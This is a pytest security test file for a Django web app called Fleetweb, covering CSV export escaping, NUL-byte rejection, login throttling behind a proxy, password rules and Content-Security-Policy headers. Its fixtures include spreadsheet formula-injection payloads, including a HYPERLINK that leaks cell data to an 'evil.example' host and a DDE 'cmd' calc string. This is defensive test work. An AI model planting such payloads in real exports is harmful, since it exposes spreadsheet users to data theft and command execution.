"""Hardened edges: exports, anonymous reading, text input, login throttling, passwords, security headers."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from django.contrib.auth.password_validation import validate_password
from django.core.exceptions import ValidationError
from django.test import Client, RequestFactory

from foundation.exports import safe_cell
from foundation.models import AuditEvent
from foundation.web import client_ip
from tests.builders import make_cluster, make_user

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(("value", "expected"), [
    ("=HYPERLINK(\"http://evil\",\"x\")", "'=HYPERLINK(\"http://evil\",\"x\")"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("shop", "shop"), (None, ""),
    (3, "3"),
])
def test_formula_cells_are_neutralised(value, expected):
    assert safe_cell(value) == expected


def _csv(client, url) -> str:
    response = client.get(url)
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def test_a_formula_owner_is_neutralised_in_the_clusters_csv(client, viewer):
    make_cluster("c1", owner='=HYPERLINK("http://evil.example/?"&A1,"click")')
    client.force_login(viewer)
    text = _csv(client, "/clusters/export.csv")
    assert "'=HYPERLINK" in text
    assert ',=HYPERLINK' not in text and '"=HYPERLINK' not in text


def test_a_formula_username_from_an_anonymous_login_is_neutralised_in_the_audit_csv(client, admin_user):
    client.post("/accounts/login/", {"username": "=cmd|' /C calc'!A0", "password": "wrong-password-123"})
    assert AuditEvent.objects.filter(action="auth.login_failed").exists()
    client.force_login(admin_user)
    text = _csv(client, "/audit/export.csv?action=auth.login_failed")
    assert "'=cmd|" in text
    assert not re.search(r"(^|,)=cmd", text, re.M)


def test_violations_csv_goes_through_the_same_helper():
    source = (ROOT / "governance" / "views.py").read_text() + (ROOT / "inventory" / "views.py").read_text()
    assert "csv.writer" not in source
    # audit log, violations, upgrade plan, clusters, fleet-wide workloads: each export calls the formula-safe helper
    assert source.count("csv_response(") == 5


@pytest.mark.parametrize("url", ["/api/schema/", "/api/docs/"])
def test_schema_and_docs_need_a_login(client, url):
    response = client.get(url)
    assert response.status_code in (302, 401, 403)
    assert b"/api/v1/clusters/" not in response.content


@pytest.mark.parametrize(("method", "url", "data", "field"), [
    ("get", "/api/v1/clusters/?name=a%00b", None, "name"),
    ("get", "/clusters/?q=a%00b", None, "q"),
    ("post", "/api/v1/groups/", {"name": "g", "description": "x\u0000y"}, "description"),
    ("post", "/api/v1/groups/", {"name": "g", "labels": {"a": ["ok", "x\u0000"]}}, "labels.a[1]"),
])
def test_a_nul_byte_anywhere_is_a_400_naming_the_field(api_as, admin_user, method, url, data, field):
    client = api_as(admin_user)
    response = client.get(url) if method == "get" else client.post(url, data, format="json")
    assert response.status_code == 400
    assert field in response.content.decode()


def test_a_nul_byte_in_a_form_field_is_a_400(client, admin_user):
    client.force_login(admin_user)
    response = client.post("/groups/new/", {"name": "g", "description": "x\x00y"})
    assert response.status_code == 400
    assert b"description" in response.content


@pytest.mark.parametrize("query", ["since=0001-01-01T00:00:00+10:00", "until=9999-12-31T23:59:59-12:00",
                                   "since=not-a-date", "until=2026-13-01T00:00:00Z"])
def test_out_of_range_datetimes_are_a_400(api_as, admin_user, query):
    response = api_as(admin_user).get(f"/api/v1/audit-events/?{query}")
    assert response.status_code == 400, response.content
    assert query.split("=")[0] in response.json()["errors"]


@pytest.mark.parametrize("query", ["until=0395-11-29T19:26:55-20:32", "until=2999-01-01T00:00:00%2B15:59",
                                   "since=0001-01-01T00:00:00-10:00"])
def test_offsets_postgresql_refuses_are_handed_over_in_utc(api_as, admin_user, query):
    """The fuzzer's 500 (PostgreSQL: "time zone displacement out of range") is a valid instant: it filters."""
    response = api_as(admin_user).get(f"/api/v1/audit-events/?{query}")
    assert response.status_code == 200


@pytest.mark.parametrize(("password", "message"), [
    ("4815162342108", "entirely numeric"), ("short-pw1", "at least 12 characters"),
])
def test_weak_passwords_are_refused(db, password, message):
    with pytest.raises(ValidationError, match=message):
        validate_password(password)


def test_logins_are_throttled_per_username(client, settings, db):
    make_user("vera-viewer", "viewer")
    for attempt in range(1, settings.AXES_FAILURE_LIMIT + 1):
        response = client.post("/accounts/login/", {"username": "vera-viewer", "password": "wrong-password-1"})
        assert response.status_code == (200 if attempt < settings.AXES_FAILURE_LIMIT else 429)
    # Locked now: even the right password is refused, with a clear page and status.
    response = client.post("/accounts/login/", {"username": "vera-viewer", "password": "pw-for-tests-1"})
    assert response.status_code == 429
    assert b"Too many failed logins" in response.content
    assert "_auth_user_id" not in client.session
    assert AuditEvent.objects.filter(action="auth.locked_out", target_name="vera-viewer").count() == 1
    failed = AuditEvent.objects.get(action="auth.login_failed", target_name="vera-viewer")
    assert failed.count >= settings.AXES_FAILURE_LIMIT


def test_logins_are_throttled_per_address_across_usernames(client, settings, db):
    make_user("vera-viewer", "viewer")
    for i in range(settings.AXES_FAILURE_LIMIT):
        client.post("/accounts/login/", {"username": f"guess-{i}", "password": "wrong-password-1"})
    response = client.post("/accounts/login/", {"username": "vera-viewer", "password": "pw-for-tests-1"})
    assert response.status_code == 429


PROXY = "10.0.0.2"


def _login(client, username: str, password: str, *, via: str):
    """A login that reached Fleetweb through the TLS proxy for the client `via`."""
    return client.post("/accounts/login/", {"username": username, "password": password},
                       REMOTE_ADDR=PROXY, HTTP_X_FORWARDED_FOR=f"{via}, {PROXY}")


def test_anonymous_cannot_lock_everyone_out_behind_the_proxy(client, settings, db):
    """Failures for made-up names lock the address they came from (the client's, from the trusted proxy's
    X-Forwarded-For), never every login that passes the proxy."""
    settings.BEHIND_TLS_PROXY, settings.FLEETWEB_TRUSTED_PROXIES = True, [f"{PROXY}/32"]
    make_user("vera-viewer", "viewer")
    for i in range(settings.AXES_FAILURE_LIMIT + 2):
        _login(client, f"made-up-{i}", "wrong-password-1", via="203.0.113.9")
    assert _login(client, "made-up-x", "wrong-password-1", via="203.0.113.9").status_code == 429
    response = _login(Client(), "vera-viewer", "pw-for-tests-1", via="198.51.100.7")
    assert response.status_code == 302
    assert not AuditEvent.objects.filter(action="auth.locked_out", target_name="vera-viewer").exists()
    assert AuditEvent.objects.filter(action="auth.login_failed", source_ip="203.0.113.9").exists()
    assert not AuditEvent.objects.filter(action="auth.login_failed", source_ip=PROXY).exists()


def test_anonymous_cannot_lock_out_the_break_glass_admin(client, settings, db):
    settings.BEHIND_TLS_PROXY, settings.FLEETWEB_TRUSTED_PROXIES = True, [f"{PROXY}/32"]
    settings.FLEETWEB_LOCAL_LOGIN, settings.FLEETWEB_BREAK_GLASS_ADMIN = False, "ada-admin"
    make_user("ada-admin", "admin")
    for _ in range(settings.AXES_FAILURE_LIMIT + 2):
        _login(client, "ada-admin", "wrong-password-1", via="203.0.113.9")
    assert _login(client, "ada-admin", "pw-for-tests-1", via="203.0.113.9").status_code == 429
    admin = Client()
    assert _login(admin, "ada-admin", "pw-for-tests-1", via="198.51.100.7").status_code == 302
    assert "_auth_user_id" in admin.session


def test_a_forwarded_for_from_an_untrusted_peer_is_not_believed(client, settings, db):
    """A client talking to Fleetweb directly cannot pick its address (and so escape its lock) with a header."""
    settings.FLEETWEB_TRUSTED_PROXIES = [f"{PROXY}/32"]
    make_user("vera-viewer", "viewer")
    for i in range(settings.AXES_FAILURE_LIMIT):
        client.post("/accounts/login/", {"username": f"guess-{i}", "password": "wrong-password-1"},
                    REMOTE_ADDR="203.0.113.9", HTTP_X_FORWARDED_FOR=f"198.51.100.{i}")
    response = client.post("/accounts/login/", {"username": "guess-x", "password": "wrong-password-1"},
                           REMOTE_ADDR="203.0.113.9", HTTP_X_FORWARDED_FOR="198.51.100.99")
    assert response.status_code == 429
    # Hops a client wrote left of the proxy's are never believed either.
    request = RequestFactory().get("/", REMOTE_ADDR=PROXY, HTTP_X_FORWARDED_FOR=f"1.2.3.4, 203.0.113.9, {PROXY}")
    assert client_ip(request) == "203.0.113.9"


def test_behind_a_tls_proxy_the_trusted_proxies_are_required():
    environment = {"FLEETWEB_BEHIND_TLS_PROXY": "true", "DATABASE_URL": "postgres://x@127.0.0.1:1/x",
                   "REDIS_URL": "redis://127.0.0.1:1/0", "FLEETWEB_SECRET_KEY": "k" * 50}
    code = "import fleetweb.settings"
    result = subprocess.run([sys.executable, "-c", code], env={"PATH": os.environ["PATH"], **environment},
                            cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert result.returncode != 0
    assert "FLEETWEB_BEHIND_TLS_PROXY=true needs FLEETWEB_TRUSTED_PROXIES" in result.stderr


def test_unlocking_is_audited(client, settings, db):
    from django.core.management import call_command

    make_user("vera-viewer", "viewer")
    for _ in range(settings.AXES_FAILURE_LIMIT):
        client.post("/accounts/login/", {"username": "vera-viewer", "password": "wrong-password-1"})
    call_command("axes_reset_username", "vera-viewer", verbosity=0)
    assert AuditEvent.objects.filter(action="auth.unlocked", target_name="vera-viewer").exists()
    client.post("/accounts/login/", {"username": "vera-viewer", "password": "pw-for-tests-1"})
    assert "_auth_user_id" in client.session


def test_pages_send_a_strict_content_security_policy(client, viewer):
    client.force_login(viewer)
    policy = client.get("/")["Content-Security-Policy"]
    directives = dict(d.strip().split(" ", 1) for d in policy.split(";") if d.strip())
    assert directives["script-src"] == "'self'" and directives["style-src"] == "'self'"
    assert "unsafe" not in policy
    assert directives["frame-ancestors"] == "'none'"


def test_no_template_has_inline_script_style_or_handlers():
    offenders = []
    for path in (ROOT / "templates").rglob("*.html"):
        text = path.read_text()
        for pattern in (r"<script(?![^>]*\bsrc=)[^>]*>", r"\sstyle=\"", r"<style\b", r"\son[a-z]+=\"", r"hx-on"):
            if re.search(pattern, text):
                offenders.append(f"{path.relative_to(ROOT)}: {pattern}")
    assert offenders == []
